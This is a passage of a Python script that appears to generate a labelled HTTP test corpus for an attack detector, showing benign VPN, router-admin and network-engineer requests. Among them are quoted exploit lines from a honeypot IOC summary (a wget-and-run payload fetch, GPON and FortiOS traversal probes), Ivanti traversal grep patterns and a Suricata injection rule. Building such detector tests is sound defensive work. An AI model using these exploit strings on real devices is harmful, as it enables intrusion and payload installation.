                               ("enc-algo", "aes-256-gcm,aes-128-gcm,aes-128-cbc"), ("authcookie", "0f8e3c9a7b6d5e4f%d" % i), ("portal", "GP-Portal"),
                               ("user", u), ("domain", "(empty_domain)"), ("computer", "LAPTOP-%04X" % (0x3A1F + i)), ("preferred-ip", "10.64.3.%d" % (17 + i))]),
                    ctype="application/x-www-form-urlencoded", k=i),
            request("GET", "/dana/home/index.cgi", "vpn.example.org", ua="Pulse-Secure/22.7.1.1431 (Windows 10) Pulse/22.7.1.1431",
                    headers=[["Cookie", "DSID=4f1c9e7a2b3d4e5f8a9b0c1d2e3f4a5b; DSFirstAccess=1714641309; DSLastAccess=1714641389"]], k=i),
            request("GET", "/Citrix/Store/discovery", "gw.example.com", ua="CitrixReceiver/24.3.0.64 (Windows)",
                    headers=[["X-Citrix-IsUsingHTTPS", "Yes"], ["Accept", "application/vnd.citrix.roamingdiscovery+xml"]], k=i),
            request("POST", "/+CSCOE+/sdesktop/token.xml?ticket=4B7E1C9A2D3F&stub=0", "asa.example.com", ua="AnyConnect Windows 4.10.07073",
                    body="", ctype="text/xml", k=i),
            request("POST", "/RPC2", "openvpn-as.example.com:943", ua="OpenVPN Connect/3.4.4 (Windows)",
                    headers=[["Authorization", "Basic " + b64("%s:%s" % (u, pick(PASSWORDS, i)))]],
                    body="<?xml version='1.0'?>\n<methodCall>\n<methodName>GetUserlogin</methodName>\n<params>\n</params>\n</methodCall>\n",
                    ctype="text/xml", k=i)], i))
    # --- router logs/exports downloaded and firmware uploads via the UI
    for i, (p, h) in enumerate([("/cgi-bin/luci/;stok=%s/admin/syslog?form=log&operation=export" % stok, "192.168.0.1"),
                                ("/api/v2/monitor/system/config/backup?scope=global&access_token=Nf5q1Gk8rG3qQm0ytN8xkcx7H3Hnp9", "fw01.example.com"),
                                ("/cgi-bin/export-cgi?category=config&arg0=startup-config.conf", "usg.example.com"),
                                ("/backupsettings.conf", "fritz.box"),
                                ("/rest/file?name=backup-2024-05-02.backup", "10.0.0.1")]):
        hs = [["Cookie", "authtok=Xk9mQ7wE; zyxel_session=a8b7c6d5e4f3"]] if i == 2 else ([["Authorization", "Basic " + b64("admin:M1kr0tik&Api")]] if i == 4 else [])
        o.add("benign", "config-export", request("GET", p, h, bot=False, headers=hs + [["Referer", "https://%s/" % h]], k=i))
    # --- Home Assistant and scripts polling device status (REST instead of SNMP)
    for i, (p, h, ua) in enumerate([
            ("/api/v2/monitor/system/interface?interface_name=wan1", "fw01.example.com", "Home Assistant/2024.4.3 aiohttp/3.9.3 Python/3.12"),
            ("/rest/interface/monitor-traffic", "10.0.0.1", "telegraf-routeros/1.0"),
            ("/api/monitoring/traffic-statistics", "192.168.8.1", "huawei-lte-api/1.7.3"),
            ("/upnp/control/wancommonifconfig1", "fritz.box:49000", "fritzconnection/1.13.2"),
            ("/api/s/default/stat/health", "unifi.example.com:8443", "unpoller/2.11.1"),
            ("/nitro/v1/stat/protocolhttp", "adc.example.com", "citrix-adc-metrics-exporter/1.4.9"),
            ("/mgmt/tm/ltm/pool/stats", "bigip.example.com", "bigip_exporter/1.0.0"),
            ("/api/?type=op&cmd=%3Cshow%3E%3Cinterface%3Eall%3C%2Finterface%3E%3C%2Fshow%3E&key=LUFRPT1", "fw-mgmt.example.com", "panos_exporter/0.2.0"),
            ("/ISAPI/System/workingstatus?format=json", "nvr.example.net:8080", "hikvision-exporter/0.4"),
            ("/webapi/entry.cgi?api=SYNO.Core.System.Utilization&method=get&version=1&_sid=Uw3jG8kqPq1yE9WJx0N3RC5AeFp7bT", "ds.example.com:5001", "synology-api/0.6.5")]):
        m = "POST" if "upnp" in p else "GET"
        o.add("benign", "rest-poll", request(m, p, h, ua=ua, headers=([["SOAPAction", "urn:dslforum-org:service:WANCommonInterfaceConfig:1#GetTotalBytesSent"]] if m == "POST" else
                                                                       [["Authorization", "Basic " + b64("monitor:R3ad0nly!")]]),
                                             body=soap('<u:GetTotalBytesSent xmlns:u="urn:dslforum-org:service:WANCommonInterfaceConfig:1"/>') if m == "POST" else None,
                                             ctype='text/xml; charset="utf-8"' if m == "POST" else None, accept="application/json", k=i))


# ----------------------------------------------------------------------------- dev-content

DEV = [
    ("fortigate-policy", "FortiGate policy for the new branch VPN", """config firewall policy
    edit 42
        set name "branch7-to-dc"
        set srcintf "branch7-ipsec"
        set dstintf "port3"
        set srcaddr "net-branch7"
        set dstaddr "grp-dc-servers"
        set action accept
        set schedule "always"
        set service "HTTPS" "SSH" "RDP"
        set logtraffic all
        set comments "CHG0041234 - temp until 2024-06-30"
    next
end"""),
    ("fortigate-sslvpn", "SSL-VPN settings after the upgrade", """config vpn ssl settings
    set servercert "vpn.example.com"
    set tunnel-ip-pools "SSLVPN_TUNNEL_ADDR1"
    set dns-server1 10.0.0.53
    set source-interface "port1"
    set source-address "all"
    set default-portal "no-access"
    set port 10443
end
diagnose debug application sslvpn -1
diagnose debug enable"""),
    ("ios-running-config", "gw-branch7 running-config (sanitised)", """hostname gw-branch7
!
enable secret 9 $9$nhEmQVczB7dqsO$X.HsgL6x1il0RxkOSSvyQYwucySCt7qFm4v7pqCxkKM
!
interface GigabitEthernet0/0/1
 description Uplink ISP (circuit 4711-0815) - do not shut!
 ip address 198.51.100.2 255.255.255.252
 ip access-group OUTSIDE-IN in
!
ip access-list extended OUTSIDE-IN
 permit tcp any host 198.51.100.2 eq 443
 permit udp any host 198.51.100.2 eq isakmp
 deny   ip any any log
!
line vty 0 4
 transport input ssh
 access-class MGMT-ONLY in"""),
    ("asa-config", "ASA: anyconnect profile and ACL", """access-list outside_in extended permit tcp any object WEB01 eq https
access-list outside_in extended deny ip any any log
webvpn
 enable outside
 anyconnect image disk0:/anyconnect-win-4.10.07073-webdeploy-k9.pkg 1
 anyconnect profiles employees_client_profile disk0:/employees_client_profile.xml
 anyconnect enable
 tunnel-group-list enable
group-policy GP-Employees attributes
 vpn-tunnel-protocol ssl-client
 split-tunnel-policy tunnelspecified
 split-tunnel-network-list value SPLIT-ACL"""),
    ("junos-set", "SRX policy as set commands", """set security zones security-zone untrust interfaces ge-0/0/0.0 host-inbound-traffic system-services ike
set security address-book global address web-servers 10.20.30.0/24
set security policies from-zone untrust to-zone trust policy allow-web match source-address any
set security policies from-zone untrust to-zone trust policy allow-web match destination-address web-servers
set security policies from-zone untrust to-zone trust policy allow-web match application junos-https
set security policies from-zone untrust to-zone trust policy allow-web then permit
commit confirmed 5"""),
    ("panos-cli", "PAN-OS upgrade steps I used", """> request system software check
> request system software download version 11.1.2-h3
> request system software install version 11.1.2-h3
> request restart system
> show system info | match sw-version
sw-version: 11.1.2-h3
> show global-protect-gateway current-user"""),
    ("mikrotik-script", "RouterOS: auto-block SSH brute force", """/ip firewall filter
add chain=input protocol=tcp dst-port=22 src-address-list=ssh_blacklist action=drop comment="drop ssh brute forcers"
add chain=input protocol=tcp dst-port=22 connection-state=new src-address-list=ssh_stage2 action=add-src-to-address-list address-list=ssh_blacklist address-list-timeout=1d
add chain=input protocol=tcp dst-port=22 connection-state=new action=add-src-to-address-list address-list=ssh_stage2 address-list-timeout=1m
:foreach i in=[/interface find where running=yes] do={ :log info ("up: " . [/interface get $i name]) }"""),
    ("iptables", "iptables on the jump host", """iptables -P INPUT DROP
iptables -A INPUT -i lo -j ACCEPT
iptables -A INPUT -m conntrack --ctstate ESTABLISHED,RELATED -j ACCEPT
iptables -A INPUT -p tcp --dport 22 -s 10.0.0.0/8 -j ACCEPT
iptables -A INPUT -p tcp --dport 22 -m recent --name ssh --set
iptables -A INPUT -p tcp --dport 22 -m recent --name ssh --update --seconds 60 --hitcount 4 -j DROP
iptables -t nat -A POSTROUTING -o eth0 -j MASQUERADE
iptables-save > /etc/iptables/rules.v4"""),
    ("nftables", "nftables ruleset for the new edge box", """table inet filter {
  set blocklist { type ipv4_addr; flags timeout; }
  chain input {
    type filter hook input priority 0; policy drop;
    ct state established,related accept
    iif "lo" accept
    ip saddr @blocklist drop
    tcp dport { 22, 443 } ct state new limit rate 10/minute accept
    icmp type echo-request limit rate 5/second accept
  }
}"""),
    ("fw-download", "How I flashed the AP (worked on 3 of 4)", """ssh admin@10.0.20.14
cd /tmp
wget -O /tmp/fw.bin https://downloads.example.com/ap/U6-Pro/6.6.55/firmware.bin
sha256sum /tmp/fw.bin   # must be 3c1f...e9
syswrapper.sh upgrade2 /tmp/fw.bin
# the 4th one had no space in /tmp, had to rm -rf /tmp/*.log first"""),
    ("curl-fortigate", "curl against the FortiGate API", """curl -sk -H "Authorization: Bearer $FGT_TOKEN" \\
  "https://10.0.0.1/api/v2/monitor/system/status" | jq '.results | {hostname, version, serial}'
curl -sk -X POST -H "Authorization: Bearer $FGT_TOKEN" -H 'Content-Type: application/json' \\
  -d '{"name":"srv-web03","subnet":"10.20.30.43/32"}' \\
  "https://10.0.0.1/api/v2/cmdb/firewall/address?vdom=root\""""),
    ("tcpdump", "capture for the VPN drop issue", """tcpdump -ni port1 'host 203.0.113.9 and (udp port 500 or udp port 4500 or esp)' -w /tmp/ike.pcap
tcpdump -nn -r /tmp/ike.pcap | head -20
09:14:07.118 IP 203.0.113.9.500 > 198.51.100.2.500: isakmp: phase 1 I ident
09:14:07.131 IP 198.51.100.2.500 > 203.0.113.9.500: isakmp: phase 1 R ident
09:14:37.140 IP 203.0.113.9.4500 > 198.51.100.2.4500: NONESP-encap: isakmp: phase 2/others I inf[E]"""),
    ("ping-output", "ping/traceroute from the branch", """$ ping -c 4 10.0.0.53
PING 10.0.0.53 (10.0.0.53) 56(84) bytes of data.
64 bytes from 10.0.0.53: icmp_seq=1 ttl=62 time=18.4 ms
--- 10.0.0.53 ping statistics ---
4 packets transmitted, 4 received, 0% packet loss, time 3004ms
$ traceroute -n 10.0.0.53
 1  192.168.7.1  0.512 ms
 2  * * *
 3  10.0.0.53  18.9 ms"""),
    ("show-ip-route", "routing table on core-sw01", """core-sw01#show ip route 10.20.0.0
Routing entry for 10.20.0.0/16
  Known via "ospf 1", distance 110, metric 20, type extern 2, forward metric 1
  Last update from 10.255.0.2 on Vlan900, 2d03h ago
  Routing Descriptor Blocks:
  * 10.255.0.2, from 10.255.255.2, 2d03h ago, via Vlan900
core-sw01#show logging | include %LINEPROTO
*May  2 09:14:07.123: %LINEPROTO-5-UPDOWN: Line protocol on Interface Gi1/0/48, changed state to down"""),
    ("asa-log", "ASA log lines from the incident", """%ASA-4-106023: Deny tcp src outside:198.51.100.7/4444 dst inside:10.0.0.5/23 by access-group "outside_in" [0x0, 0x0]
%ASA-6-302013: Built inbound TCP connection 918273 for outside:203.0.113.9/51234 (203.0.113.9/51234) to inside:10.20.30.40/443 (198.51.100.2/443)
%ASA-6-113004: AAA user authentication Successful : server = 10.0.0.10 : user = jdoe
%ASA-4-722051: Group <GP-Employees> User <jdoe> IP <203.0.113.9> IPv4 Address <10.64.3.17> assigned to session"""),
    ("fortigate-log", "FortiGate event log excerpt", """date=2024-05-02 time=09:14:07 devname="fw01" devid="FGT60FTK2209XXXX" logid="0100032001" type="event" subtype="system" level="information" vd="root" logdesc="Admin login successful" sn="1714641247" user="admin" ui="https(10.0.0.44)" method="https" srcip=10.0.0.44 dstip=10.0.0.1 action="login" status="success" reason="none" profile="super_admin" msg="Administrator admin logged in successfully from https(10.0.0.44)"
date=2024-05-02 time=09:20:11 logid="0101039426" type="event" subtype="vpn" level="alert" action="ssl-login-fail" tunneltype="ssl-web" remip=203.0.113.99 user="admin" reason="sslvpn_login_unknown_user" msg="SSL user failed to logged in\""""),
    ("ioc-fortios", "IOC list from the SSL-VPN scan wave", """Seen in access logs on vpn.example.com (2024-04-30, 1,214 hits from 37 IPs):
GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession HTTP/1.1
GET /remote/login?lang=en HTTP/1.1
Source ranges: 203.0.113.0/24, 198.51.100.128/25
Action: verified 7.2.8 is not affected (CVE-2018-13379 fixed in 6.0.5/5.6.8); blocked ranges on the edge ACL."""),
    ("ioc-gpon", "honeypot summary for the weekly report", """Top exploit attempts on the IoT honeypot this week:
1. POST /GponForm/diag_Form?images/  (dest_host=`busybox wget ...`, CVE-2018-10562) - 4,102
2. GET /shell?cd+/tmp;rm+-rf+*;wget+<ip>/jaws;sh+/tmp/jaws (JAWS DVR) - 2,877
3. POST /cgi-bin/luci/;stok=/locale?form=country (TP-Link CVE-2023-1389) - 1,530
4. POST /ctrlt/DeviceUpgrade_1 (Huawei HG532) - 998
Payload hosts were all in 198.51.100.0/24; samples uploaded to the sandbox."""),
    ("ioc-ivanti", "Ivanti ICS: what to grep for", """grep -E 'api/v1/totp/user-backup-code/\\.\\./\\.\\./(license|system)' /var/log/ics/*.log
grep -c 'keys-status/%3B' access.log
# integrity checker: run the external ICT, internal ICT is not enough
# if hits: rotate all local admin passwords, revoke/reissue certs, reset the appliance to factory and restore config"""),
    ("suricata-rule", "Suricata rule for the Hikvision probes", """alert http $EXTERNAL_NET any -> $HOME_NET any (msg:"LOCAL Hikvision webLanguage command injection attempt (CVE-2021-36260)"; flow:established,to_server; http.method; content:"PUT"; http.uri; content:"/SDK/webLanguage"; fast_pattern; http.request_body; content:"<language>"; pcre:"/<language>[^<]*(\\$\\(|`)/"; classtype:attempted-admin; sid:1000451; rev:2;)"""),
    ("sigma-rule", "Sigma draft: traversal on the VPN portal", """title: Path traversal against SSL-VPN portal
logsource:
  category: webserver
detection:
  selection:
    cs-uri-stem|contains:
      - '/remote/fgt_lang'
      - '/dana-na/../'
    cs-uri-query|contains: '/../../'
  condition: selection
level: high"""),
    ("ansible-fortios", "Ansible task (fortios collection)", """- name: Add address object
  fortinet.fortios.fortios_firewall_address:
    vdom: root
    state: present
    firewall_address:
      name: "srv-web01"
      subnet: "10.20.30.40 255.255.255.255"
      comment: "managed by ansible; do not edit in GUI"
- name: Show status
  fortinet.fortios.fortios_monitor_fact:
    selector: system_status"""),
    ("ansible-ios", "ios_config play for the NTP change", """- hosts: branch_routers
  gather_facts: no
  tasks:
    - cisco.ios.ios_config:
        lines:
          - ntp server 10.0.0.123 prefer
          - no ntp server 192.0.2.1
        save_when: modified
    - cisco.ios.ios_command:
        commands: show ntp associations
      register: ntp"""),
    ("netmiko", "netmiko script to pull configs", """from netmiko import ConnectHandler
for host in open("routers.txt").read().split():
    conn = ConnectHandler(device_type="cisco_ios", host=host, username="backup", password=os.environ["PW"])
    cfg = conn.send_command("show running-config")
    open(f"configs/{host}.cfg", "w").write(cfg)
    conn.disconnect()"""),
    ("hostapd", "hostapd.conf for the lab AP", """interface=wlan0
driver=nl80211
ssid=Lab "Guest" & Test
hw_mode=a
channel=36
wpa=2
wpa_key_mgmt=WPA-PSK SAE
wpa_passphrase=S3cr3t;with&special|chars
rsn_pairwise=CCMP
ieee80211w=1"""),
    ("wireguard", "WireGuard client config (keys redacted)", """[Interface]
PrivateKey = <redacted>
Address = 10.8.0.7/32
DNS = 10.0.0.53

[Peer]
PublicKey = hK8k8sP2mQ9e0vM1xYzN3bC4dF5gH6jK7lL8mN9pQ0=
Endpoint = vpn.example.com:51820
AllowedIPs = 10.0.0.0/8, 192.168.50.0/24
PersistentKeepalive = 25"""),
    ("openvpn", "OpenVPN client profile that fails on macOS", """client
dev tun
proto udp
remote vpn.example.org 1194
resolv-retry infinite
nobind
persist-key
persist-tun
remote-cert-tls server
cipher AES-256-GCM
auth-user-pass
script-security 2
up /etc/openvpn/update-resolv-conf
down /etc/openvpn/update-resolv-conf
<ca>
-----BEGIN CERTIFICATE-----
MIIDSzCCAjOgAwIBAgIUfL3Q...snip...
-----END CERTIFICATE-----
</ca>"""),
    ("ipsec-conf", "strongSwan side of the tunnel", """conn branch7
    left=%defaultroute
    leftid=@gw-branch7.example.net
    leftsubnet=192.168.7.0/24
    right=198.51.100.2
    rightsubnet=10.0.0.0/8
    ike=aes256-sha256-modp2048!
    esp=aes256gcm16!
    keyexchange=ikev2
    auto=start"""),
    ("crontab", "backup cron on the NAS", """# m h dom mon dow command
15 3 * * * /volume1/scripts/backup-configs.sh >> /var/log/backup-configs.log 2>&1
0 4 * * 0 /usr/bin/find /volume1/backups -name '*.tar.gz' -mtime +30 -delete
*/5 * * * * /usr/bin/curl -fsS -m 10 --retry 3 https://hc.example.com/ping/1b2c3d4e > /dev/null"""),
    ("busybox-debug", "debugging the camera over telnet (vendor support session)", """# cat /proc/cpuinfo | head -3
system type             : Ingenic Xburst
machine                 : Unknown
# mount -o remount,rw /
# ls -la /etc/config
-rw-r--r--    1 root     root          1184 May  2 09:14 network
# cat /etc/passwd
root:x:0:0:root:/root:/bin/sh
# ps | grep -v grep | grep rtsp
  312 root      4520 S    /usr/bin/rtspd -p 554"""),
    ("audit-passwd", "audit finding: local accounts on appliances", """Finding 3.2 - local accounts
On 4 of 9 appliances `cat /etc/passwd | grep -v nologin` still lists `support` and `vendor`
with a shell. /etc/shadow is mode 0640 root:shadow (ok). Recommendation: remove `vendor`,
set `support` to /sbin/nologin, rotate root. Evidence: screenshots in the attachment."""),
    ("nginx-nas", "nginx in front of the NAS", """server {
    listen 443 ssl http2;
    server_name nas.example.org;
    location / {
        proxy_pass http://127.0.0.1:5000;
        proxy_set_header Host $host;
        proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;
    }
    location ~ /\\.(git|env) { deny all; }
}"""),
    ("compose-frigate", "docker-compose for Frigate on the NVR box", """services:
  frigate:
    image: ghcr.io/blakeblackshear/frigate:0.13.2
    privileged: true
    restart: unless-stopped
    shm_size: "256mb"
    devices:
      - /dev/bus/usb:/dev/bus/usb
    volumes:
      - /etc/localtime:/etc/localtime:ro
      - ./config:/config
      - /mnt/storage:/media/frigate
    ports:
      - "5000:5000"
      - "8554:8554\""""),
    ("kubectl", "kubectl steps to check the ingress", """kubectl -n ingress get pods -o wide
kubectl -n ingress logs deploy/ingress-nginx-controller --since=10m | grep -E ' (4|5)[0-9]{2} '
kubectl -n ingress exec -it deploy/ingress-nginx-controller -- /bin/sh -c 'cat /etc/nginx/nginx.conf | grep -n server_name'
kubectl get svc -A | grep LoadBalancer"""),
    ("nms-sql", "query for the firmware report", """SELECT d.hostname, d.mgmt_ip, d.vendor, d.fw_version
FROM devices d
WHERE d.vendor IN ('Fortinet', 'Palo Alto', 'Ivanti')
  AND d.fw_version < '7.2.5'
  AND d.decommissioned IS NULL
ORDER BY d.vendor, d.hostname;
-- 14 rows; the two Ivanti boxes are already scheduled (CHG0041301)"""),
    ("powershell-gp", "PowerShell to redeploy the VPN client", """$msi = "C:\\Temp\\GlobalProtect64-6.2.1.msi"
Invoke-WebRequest -Uri "https://gp.example.com/global-protect/msi/GlobalProtect64.msi" -OutFile $msi
Start-Process msiexec.exe -ArgumentList "/i `"$msi`" /quiet PORTAL=`"gp.example.com`"" -Wait
Get-Service PanGPS | Restart-Service
netsh interface ipv4 show interfaces"""),
    ("isapi-curl", "curl examples for the Hikvision ISAPI", """curl --digest -u admin:*** http://10.50.1.21/ISAPI/System/deviceInfo
curl --digest -u admin:*** -X PUT -H 'Content-Type: application/xml' \\
  -d '<TextOverlay><id>1</id><enabled>true</enabled><displayText>Dock 3</displayText></TextOverlay>' \\
  http://10.50.1.21/ISAPI/System/Video/inputs/channels/1/overlays/text/1
curl --digest -u admin:*** -o snap.jpg 'http://10.50.1.21/ISAPI/Streaming/channels/101/picture'"""),
    ("tr069-debug", "GenieACS preset that broke the F670L", """{
  "_id": "wifi-defaults",
  "precondition": "{\\"_deviceId._ProductClass\\": \\"ZXHN F670L\\"}",
  "configurations": [
    {"type": "value", "name": "InternetGatewayDevice.LANDevice.1.WLANConfiguration.1.SSID", "value": "{{serial}}-WiFi"},
    {"type": "value", "name": "InternetGatewayDevice.ManagementServer.PeriodicInformInterval", "value": "3600"}
  ]
}
ACS log: cwmp.Inform 0 BOOTSTRAP, then fault 9002 Internal error on SetParameterValues"""),
    ("ddns-script", "DDNS update script for the backup line", """#!/bin/sh
IP=$(curl -s https://ifconfig.example.net)
curl -s -u "bob@example.com:$DDNS_PW" \\
  "https://members.example-dyn.com/nic/update?hostname=office.example-dyn.net&myip=$IP"
logger -t ddns "updated to $IP\""""),
    ("mikrotik-export", "/export of the hAP after reset", """# 2024-05-02 09:14:07 by RouterOS 7.14.2
/interface bridge add name=bridge
/interface wifi set [ find default-name=wifi1 ] configuration.ssid="Office & Guests" security.authentication-types=wpa2-psk,wpa3-psk
/ip address add address=192.168.88.1/24 interface=bridge network=192.168.88.0
/ip service set telnet disabled=yes
/ip service set www disabled=yes
/system scheduler add interval=1d name=backup on-event="/system backup save name=daily" start-time=03:00:00"""),
    ("pan-xmlapi", "PAN-OS XML API call from the runbook", """curl -sk "https://fw-mgmt.example.com/api/?type=op&cmd=<show><system><info></info></system></show>&key=$PANKEY"
curl -sk "https://fw-mgmt.example.com/api/?type=config&action=set&xpath=/config/devices/entry[@name='localhost.localdomain']/vsys/entry[@name='vsys1']/address/entry[@name='srv-web-01']&element=<ip-netmask>10.20.30.40/32</ip-netmask>&key=$PANKEY\""""),
    ("f5-tmsh", "tmsh for the pool change", """tmsh modify ltm pool web_pool members modify { 10.0.1.12:80 { session user-disabled } }
tmsh show ltm pool web_pool members
tmsh save sys config
# rollback:
tmsh modify ltm pool web_pool members modify { 10.0.1.12:80 { session user-enabled } }"""),
    ("citrix-cli", "NetScaler CLI after the CitrixBleed patch", """> show ns version
        NetScaler NS14.1: Build 12.35.nc
> kill aaa session -all
> kill icaconnection -all
> kill rdp connection -all
> clear lb persistentSessions
> shell
root@ns# grep -c 'GET /oauth/idp/.well-known/openid-configuration' /var/log/httpaccess.log"""),
    ("zyxel-cli", "Zyxel USG: zysh output", """Router> show version
Zyxel Communications Corp.
model           : USG FLEX 200
firmware version: V5.37(ABUJ.0)
Router> configure terminal
Router(config)# ip http secure-server cipher-suite aes256 aes128
Router(config)# no ip http server"""),
    ("synology-task", "DSM scheduled task (user-defined script)", """Task: nightly-config-backup (root), daily 03:15
Run command:
  /bin/bash /volume1/scripts/backup-configs.sh --targets /volume1/scripts/targets.txt --out /volume1/backups/configs
  find /volume1/backups/configs -type f -mtime +30 -exec rm -f {} \\;
Notification: send run details by email, only when the script terminates abnormally"""),
]

DEV_PLACES = ["jira", "confluence", "gitlab", "redmine", "servicenow", "zammad", "mediawiki", "mattermost", "netbox", "osticket"]


def dev_request(place, tag, title, text, i):
    """A snippet posted where network engineers post it."""
    ua = pick(BROWSER_UAS, i)
    if place == "jira":
        body = jdump({"body": "Pasting what I ran:\n{code}\n%s\n{code}\nPlease review before the window." % text})
        return request("POST", "/rest/api/2/issue/NET-%d/comment" % (1400 + i), "jira.example.com", ua=ua,
                       headers=[["Authorization", "Bearer NjA4MTk0NzU2MjM0OlcS"], ["X-Atlassian-Token", "no-check"]],
                       body=body, ctype="application/json", accept="application/json")
    if place == "confluence":
        storage = ('<p>%s</p><ac:structured-macro ac:name="code"><ac:parameter ac:name="language">bash</ac:parameter>'
                   '<ac:plain-text-body><![CDATA[%s]]></ac:plain-text-body></ac:structured-macro>' % (xml_esc(title), text))
        body = jdump({"type": "page", "title": "%s (%d)" % (title, i), "space": {"key": "NET"},
                      "body": {"storage": {"value": storage, "representation": "storage"}}})
        return request("POST", "/rest/api/content", "wiki.example.com", ua=ua, headers=[["Authorization", "Bearer NjA4MTk0NzU2MjM0OlcS"]],
                       body=body, ctype="application/json", accept="application/json")
    if place == "gitlab":
        return request("POST", "/api/v4/projects/12/issues/%d/notes" % (30 + i), "git.example.com", ua=ua,
                       headers=[["PRIVATE-TOKEN", "glpat-Xk9mQ7wE4rT6yU8iO0pL"]],
                       body=form([("body", "%s:\n\n```\n%s\n```" % (title, text))]), ctype="application/x-www-form-urlencoded")
    if place == "redmine":
        return request("PUT", "/issues/%d.json" % (8800 + i), "redmine.example.com", ua=ua, headers=[["X-Redmine-API-Key", "3f9a1c7e5b2d4f6a8c0e2a4c6e8f0b2d4f6a8c0e"]],
                       body=jdump({"issue": {"notes": "%s\n\n<pre>\n%s\n</pre>" % (title, text), "private_notes": False}}), ctype="application/json")
    if place == "servicenow":
        return request("PATCH", "/api/now/table/change_request/a9e3c1f24f1b2300c1d2e3f4a5b6c7d%d" % (i % 10), "example.service-now.example.com", ua=ua,
                       headers=[["Authorization", "Basic " + b64("net.integration:Sn0w#Int")]],
                       body=jdump({"work_notes": "%s\n[code]<pre>%s</pre>[/code]" % (title, xml_esc(text)), "implementation_plan": title}),
                       ctype="application/json", accept="application/json")
    if place == "zammad":
        return request("POST", "/api/v1/ticket_articles", "support.example.com", ua=ua, headers=[["Authorization", "Token token=Zk9mQ7wE4rT6yU8iO0pLkJhG"]],
                       body=jdump({"ticket_id": 5100 + i, "subject": title, "body": text, "content_type": "text/plain", "type": "note", "internal": True}),
                       ctype="application/json")
    if place == "mediawiki":
        return request("POST", "/index.php?title=Network/%s&action=submit" % quote(tag), "wiki.example.org", ua=ua,
                       headers=[["Cookie", "wikidb_session=8f2e1d0c9b8a7f6e; wikidbUserName=Eva"]],
                       body=form([("wpTextbox1", "== %s ==\n<syntaxhighlight lang=\"text\">\n%s\n</syntaxhighlight>\n" % (title, text)),
                                  ("wpSummary", "add " + tag), ("wpSave", "Save changes"), ("wpEditToken", "d41d8cd98f00b204e9800998ecf8427e+\\"),
                                  ("wpStarttime", "20240502091407"), ("wpEdittime", "20240501120000"), ("model", "wikitext"), ("format", "text/x-wiki")]),
                       ctype="application/x-www-form-urlencoded")
    if place == "mattermost":
        return request("POST", "/api/v4/posts", "chat.example.com", ua=ua, headers=[["Authorization", "Bearer 8xq3m1k9yp7fwz4c6r2t5n0bjh"], ["X-Requested-With", "XMLHttpRequest"]],
                       body=jdump({"channel_id": "q1w2e3r4t5y6u7i8o9p0asdfgh", "message": "%s\n```\n%s\n```" % (title, text), "root_id": ""}),
                       ctype="application/json")
    if place == "netbox":
        return request("POST", "/api/extras/journal-entries/", "netbox.example.com", ua="pynetbox/7.3.3",
                       headers=[["Authorization", "Token 0123456789abcdef0123456789abcdef01234567"]],
                       body=jdump({"assigned_object_type": "dcim.device", "assigned_object_id": 100 + i, "kind": "info",
                                   "comments": "**%s**\n\n```\n%s\n```" % (title, text)}),
                       ctype="application/json", accept="application/json")
    bd = pick(BOUNDARIES, i)
    return request("POST", "/scp/tickets.php?id=%d" % (700 + i), "helpdesk.example.com", ua=ua,
                   headers=[["Cookie", "OSTSESSID=5a1b2c3d4e5f6a7b"]],
                   body=multipart([('name="__CSRFToken__"', "9c8b7a6f5e4d3c2b1a0f", []), ('name="a"', "postnote", []),
                                   ('name="title"', title, []), ('name="note"', text, []),
                                   ('name="attachments[]"; filename="%s.txt"' % tag, text, ["Content-Type: text/plain"])], bd),
                   ctype="multipart/form-data; boundary=" + bd)


def benign_dev(o):
    for i, (tag, title, text) in enumerate(DEV):
        for r in range(2):
            place = DEV_PLACES[(i * 3 + r * 5) % len(DEV_PLACES)]
            o.add("dev-content", tag, dev_request(place, tag, title, text, i * 2 + r))


# ============================================================================= output / validate

def attacks():
    o = Out()
    for f in (attacks_vpn, attacks_routers, attacks_cameras_nas, attacks_apps, attacks_probes):
        f(o)
    return o.rows


def benign():
    o = Out()
    for f in (benign_vpn, benign_routers, benign_cameras, benign_nas, benign_apps, benign_misc, benign_more, benign_dev):
        f(o)
    return o.rows


def emit(rows, expect):
    for n, (cat, tag, req) in enumerate(rows, 1):
        tag = re.sub(r"[^a-z0-9+-]", "-", tag.lower())
        line = {"id": "%s/%s/%s-%03d" % (SET, cat, tag, n), "set": SET, "category": cat, "expect": expect}
        line.update(req)
        sys.stdout.write(json.dumps(line, ensure_ascii=False) + "\n")


def validate(paths):
    ok = True
    seen = set()
    for path in paths:
        cats = collections.Counter()
        with open(path, encoding="utf-8") as f:
            for ln, text in enumerate(f, 1):
                where = "%s:%d" % (path, ln)
                try:
                    d = json.loads(text)
                except ValueError as e:
                    print("%s: bad json: %s" % (where, e))
                    ok = False
                    continue
                if d["id"] in seen:
                    print("%s: duplicate id %s" % (where, d["id"]))
                    ok = False
                seen.add(d["id"])
                if d.get("set") != SET or d.get("expect") not in ("detect", "pass"):
                    print("%s: bad set/expect" % where)
                    ok = False
                if (d["category"] == "dev-content") != ("/dev-content/" in d["id"]):
                    print("%s: dev-content id/category mismatch" % where)
                    ok = False
                if "raw_b64" in d:
                    rawb = base64.b64decode(d["raw_b64"])
                    head, _, body = rawb.partition(b"\r\n\r\n")
                    cl = [l.split(b":", 1)[1].strip() for l in head.split(b"\r\n")[1:] if l.lower().startswith(b"content-length:")]
                    te = any(l.lower().startswith(b"transfer-encoding:") for l in head.split(b"\r\n")[1:])
                    if not te and ((cl and int(cl[0]) != len(body)) or (not cl and body)):
                        print("%s: raw Content-Length mismatch" % where)
                        ok = False
                else:
                    for key in ("method", "uri", "version", "headers"):
                        if key not in d:
                            print("%s: missing %s" % (where, key))
                            ok = False
                    hs = {h[0].lower(): h[1] for h in d["headers"]}
                    if "host" not in hs or "user-agent" not in hs:
                        print("%s: missing Host/User-Agent" % where)
                        ok = False
                    if "body" in d:
                        if "content-type" not in hs or hs.get("content-length") != str(len(d["body"].encode("utf-8"))):
                            print("%s: Content-Type/Length wrong" % where)
                            ok = False
                    for name, value in d["headers"]:
                        if any(c in value for c in "\r\n\x00"):
                            print("%s: control char in header %s" % (where, name))
                            ok = False
                    if any(c in d["uri"] for c in " \r\n\t") or not d["uri"].startswith("/"):
                        print("%s: bad uri %r" % (where, d["uri"][:80]))
                        ok = False
                cats[d["category"]] += 1
        print("%s: %d lines" % (path, sum(cats.values())))
        for c, cnt in sorted(cats.items()):
            print("  %-16s %4d" % (c, cnt))
    print("OK" if ok else "FAILED")
    return ok


def main(argv):
    if len(argv) >= 2 and argv[1] == "attacks":
